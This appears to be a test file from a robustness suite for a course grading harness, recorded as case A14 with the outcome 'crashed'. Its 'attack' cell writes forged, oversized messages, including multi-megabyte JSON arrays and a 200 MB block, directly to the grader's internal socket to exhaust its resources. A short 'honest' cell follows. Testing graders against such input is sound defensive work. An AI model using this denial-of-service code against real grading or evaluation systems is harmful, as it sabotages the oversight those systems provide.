"""Sends messages as large and as wide as it says they are, without asking what there is room for.

Covers: A14
Verdict: crashed
"""

# %% attack
import json
import struct

from course_lib.checking import grading

tensors = json.dumps({str(n): {"dtype": "F32", "shape": [0], "data_offsets": [0, 0]}
                      for n in range(200_000)}).encode()  # fmt: skip
block = struct.pack("<Q", len(tensors)) + tensors
value = b'{"event": "observation", "observation": %s}'
messages = [
    (value % (b'{"$outline": [' + b"1," * 2_000_000 + b"1]}"), b""),
    (value % (b'{"$dict": [' + b'["", ""],' * 900_000 + b'["", ""]]}'), b""),
    (value % (b'"' + rb"\"" * 4_000_000 + b'"'), b""),
    (value % b"0", block),
    (value % b"0", bytes(200 << 20)),
    (b'{"event": "done", "notes": [' + b"{}," * 2_000_000 + b"{}]}", b""),
]
asked = [0]


def answer(name):
    def send(*args, **kwargs):
        asked[0] += 1
        tree, block = messages[(asked[0] + len(name)) % len(messages)]
        header = struct.pack(">4sII", b"CNN1", len(tree), len(block))
        grading._channel._socket.sendall(header + tree + block)

    return send


# %% honest
import json

text = json.dumps([{}] * 200_000)
print(len(json.loads(text)))
